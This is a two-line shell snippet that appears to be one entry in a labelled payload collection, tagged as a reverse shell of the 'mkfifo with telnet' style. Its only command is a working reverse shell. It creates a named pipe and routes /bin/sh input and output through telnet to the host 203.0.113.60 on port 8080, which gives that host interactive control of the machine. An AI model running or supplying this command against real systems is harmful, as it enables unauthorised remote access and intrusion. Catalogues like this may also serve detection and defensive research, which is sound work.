# class: reverse shell; style: mkfifo with telnet
T=$(mktemp -u); mkfifo $T && telnet 203.0.113.60 8080 0<$T | /bin/sh 1>$T 2>&1
